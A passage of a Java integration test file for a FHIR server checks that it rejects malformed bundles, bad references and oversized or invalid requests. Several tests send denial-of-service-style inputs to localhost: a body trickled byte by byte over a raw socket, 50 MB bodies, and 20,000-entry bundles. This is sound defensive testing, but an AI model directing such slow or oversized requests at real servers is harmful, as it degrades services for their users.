    "Patient?_sort=_id&_page=x, 400",
    "Patient/_history?_page=x, 400",
    "Patient?_format=ttl, 406",
  })
  void an_entry_that_reads_a_wrong_page_or_format_is_named(String url, int status) {
    Response response = transaction("{\"request\":{\"method\":\"GET\",\"url\":\"" + url + "\"}}");
    assertOutcome(response, status);
    assertThat(response.jsonPath().getString("issue[0].expression[0]"))
        .isEqualTo("Bundle.entry[0].request.url");
  }

  private static Response transaction(String entry) {
    return given()
        .contentType(FHIR_JSON)
        .body("{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[" + entry + "]}")
        .post("/fhir");
  }

  @Test
  void a_read_that_fails_in_a_batch_does_so_alone() {
    String body =
        """
        {"resourceType":"Bundle","type":"batch","entry":[
          {"request":{"method":"GET","url":"Patient/unknown"}},
          {"request":{"method":"GET","url":"Patient?birthdate=yesterday"}},
          {"request":{"method":"HEAD","url":"Patient?birthdate=1821-03-01"}},
          {"resource":{"resourceType":"Bundle","type":"batch"},"request":{"method":"POST","url":""}}]}
        """;
    Response response =
        given()
            .contentType(FHIR_JSON)
            .body(body.replace("\"url\":\"\"", "\"url\":\"/\""))
            .post("/fhir");
    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(response.jsonPath().getList("entry.response.status"))
        .isEqualTo(List.of("404 Not Found", "400 Bad Request", "200 OK", "400 Bad Request"));
  }

  @Test
  void an_entry_of_a_batch_that_is_none_is_answered_alone() {
    String body =
        """
        {"resourceType":"Bundle","type":"batch","entry":[
          {"request":{"method":"FETCH","url":"Patient/1"}},
          {"request":{"method":"GET","url":"Patient?birthdate=1821-03-01"}},
          {},
          {"request":{"method":"GET","url":"Patient","when":"now"},"what":1},
          {"request":{"method":"GET","url":""}},
          7]}
        """;
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(response.jsonPath().getList("entry.response.status"))
        .isEqualTo(
            List.of(
                "400 Bad Request",
                "200 OK",
                "400 Bad Request",
                "400 Bad Request",
                "400 Bad Request",
                "400 Bad Request"));
    assertThat(response.jsonPath().getList("entry[3].response.outcome.issue.expression.flatten()"))
        .isEqualTo(List.of("Bundle.entry[3].request.when", "Bundle.entry[3].what"));

    assertOutcome(
        given().contentType(FHIR_JSON).body(body.replace("batch", "transaction")).post("/fhir"),
        400);
    assertOutcome(
        given()
            .contentType(FHIR_JSON)
            .body(body.replace("\"entry\"", "\"what\":1,\"entry\""))
            .post("/fhir"),
        400);
  }

  @Test
  @Timeout(60)
  void a_body_that_comes_byte_by_byte_is_refused_though_it_never_stops() throws Exception {
    try (Socket socket = new Socket("localhost", RestAssured.port)) {
      String head =
          "POST /fhir/Patient HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: "
              + FHIR_JSON
              + "\r\nContent-Length: 1000\r\n\r\n";
      socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
      for (int i = 0; i < 150 && socket.getInputStream().available() == 0; i++) {
        socket.getOutputStream().write('{');
        Thread.sleep(200);
      }
      byte[] answer = new byte[12];
      assertThat(socket.getInputStream().readNBytes(answer, 0, 12)).isEqualTo(12);
      assertThat(answer).asString().isEqualTo("HTTP/1.1 408");
    }
  }

  @Test
  void one_wrong_resource_refuses_the_whole_transaction_and_every_fault_is_named() {
    String body =
        """
        {"resourceType":"Bundle","type":"transaction","entry":[
          {"resource":{"resourceType":"Patient"},"request":{"method":"POST","url":"Patient"}},
          {"resource":{"resourceType":"Patient","gender":"f"},"request":{"method":"POST","url":"Patient"}},
          {"resource":{"resourceType":"Patient","birthDate":"2021-02-30"},"request":{"method":"POST","url":"Patient"}}]}
        """;
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue.expression"))
        .isEqualTo(
            List.of(
                List.of("Bundle.entry[1].resource.gender"),
                List.of("Bundle.entry[2].resource.birthDate")));
  }

  @Test
  void the_same_fullUrl_twice_is_refused() {
    String entry =
        "{\"fullUrl\":\"urn:uuid:00000000-0000-4000-8000-000000000001\",\"resource\":"
            + PATIENT
            + ",\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}}";
    String body =
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":["
            + entry
            + ","
            + entry
            + "]}";
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getString("issue[0].code")).isEqualTo("duplicate");
  }

  @Test
  void a_reference_to_an_entry_that_is_not_there_is_refused() {
    String body =
        """
        {"resourceType":"Bundle","type":"transaction","entry":[
          {"resource":{"resourceType":"Condition",
             "subject":{"reference":"urn:uuid:00000000-0000-4000-8000-000000000009"}},
           "request":{"method":"POST","url":"Condition"}}]}
        """;
    Response response = given().contentType(FHIR_JSON).body(body).post("/fhir");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getString("issue[0].expression[0]"))
        .startsWith("Bundle.entry[0].resource.subject");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "Patient?identifier=http://system.example%7C%00~ invalid~ Condition.subject.reference",
        "Patient?identifier=http://system.example%7C%FF~ invalid~ Condition.subject.reference",
        "Patient?identifier=http://system.example%7C~ invalid~ Condition.subject.reference",
        "Patient?identifier=http://system.example%7Ca,b~ not-found~ Condition.subject",
        "Patient?name=x~ not-found~ Condition.subject",
        "Patient?shoe-size=42~ not-supported~ Condition.subject.reference",
        "Patient?identifier=a%7Cb&_count=1~ not-supported~ Condition.subject.reference",
        "Patient?general-practitioner.name=x~ not-supported~ Condition.subject.reference",
        "Patient?birthdate=ap2021~ not-supported~ Condition.subject.reference",
        "Patient?_format=json~ invalid~ Condition.subject.reference",
        "Patient?~ invalid~ Condition.subject.reference",
      })
  void a_reference_that_is_a_search_and_finds_nothing_or_cannot_be_read_is_refused(
      String reference, String code, String place) {
    Response response =
        given()
            .contentType(FHIR_JSON)
            .body(
                "{\"resourceType\":\"Condition\",\"subject\":{\"reference\":\""
                    + reference
                    + "\"}}")
            .post("/fhir/Condition");
    assertOutcome(response, 400);
    assertThat(response.jsonPath().getList("issue.code")).isEqualTo(List.of(code));
    assertThat(response.jsonPath().getString("issue[0].expression[0]")).isEqualTo(place);
  }

  @Test
  void more_entries_than_the_limit_are_refused() {
    String entry =
        "{\"resource\":" + PATIENT + ",\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}}";
    String body =
        "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":["
            + (entry + ",").repeat(20_000)
            + entry
            + "]}";
    assertOutcome(given().contentType(FHIR_JSON).body(body).post("/fhir"), 413);
  }

  @Test
  void fifty_megabytes_with_their_length_declared_are_refused_and_the_answer_arrives()
      throws Exception {
    HttpResponse<String> response = send("/fhir", BodyPublishers.ofByteArray(new byte[FIFTY_MB]));
    assertTooLarge(response);
  }

  @Test
  void fifty_megabytes_in_chunks_are_refused_and_the_answer_arrives() throws Exception {
    HttpResponse<String> response =
        send("/fhir", BodyPublishers.ofInputStream(() -> spaces(FIFTY_MB)));
    assertTooLarge(response);
  }

  @Test
  void an_answer_to_an_attack_repeats_nothing_of_it() {
    Response response =
        given()
            .contentType(FHIR_JSON)
            .body("{\"resourceType\":\"Patient\",\"gender\":\"SECRET\",\"<SECRET>\":\"SECRET\"}")
            .post("/fhir/Patient");
    assertOutcome(response, 400);
    assertThat(response.asString()).doesNotContain("SECRET").doesNotContain("Exception");
  }

  /** The whole answer to a request that is sent as it is written. */
  private static String raw(String requestLine) throws IOException {
    try (Socket socket = new Socket("localhost", RestAssured.port)) {
      String request =
          requestLine
              + "\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/fhir+json"
              + "\r\nContent-Length: "
              + PATIENT.length()
              + "\r\n\r\n"
              + PATIENT;
      socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
      socket.getOutputStream().flush();
      return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private HttpResponse<String> send(String path, BodyPublisher body)
      throws IOException, InterruptedException {
    try (HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
      return client.send(
          HttpRequest.newBuilder(URI.create("http://localhost:" + RestAssured.port + path))
              .header("Content-Type", FHIR_JSON)
              .POST(body)
              .build(),
          BodyHandlers.ofString());
    }
  }

  private static InputStream spaces(int length) {
    byte[] half = " ".repeat(length / 2).getBytes(StandardCharsets.UTF_8);
    return new SequenceInputStream(new ByteArrayInputStream(half), new ByteArrayInputStream(half));
  }

  private static void assertTooLarge(HttpResponse<String> response) {
    assertThat(response.statusCode()).isEqualTo(413);
    assertThat(response.headers().firstValue("Content-Type"))
        .hasValue("application/fhir+json;charset=UTF-8");
    assertThat(response.body())
        .contains("\"resourceType\":\"OperationOutcome\"")
        .contains("\"code\":\"too-long\"")
        .contains("33554432 bytes");
  }

  private static void assertOutcome(Response response, int status) {
    assertThat(response.statusCode()).as(response.asString()).isEqualTo(status);
    assertThat(response.contentType()).isEqualTo("application/fhir+json;charset=UTF-8");
    assertThat(response.jsonPath().getString("resourceType")).isEqualTo("OperationOutcome");
    List<Map<String, Object>> issues = response.jsonPath().getList("issue");
    assertThat(issues).isNotEmpty();
    assertThat(issues)
        .allSatisfy(
            issue -> {
              assertThat(issue).containsEntry("severity", "error");
              assertThat(issue).containsKeys("code", "details");
            });
  }

  private static long versions() throws SQLException {
    try (var connection = CDI.current().select(AgroalDataSource.class).get().getConnection();
        var statement = connection.createStatement();
        ResultSet rows = statement.executeQuery("SELECT count(*) FROM resource_version")) {
      rows.next();
      return rows.getLong(1);
    }
  }
}
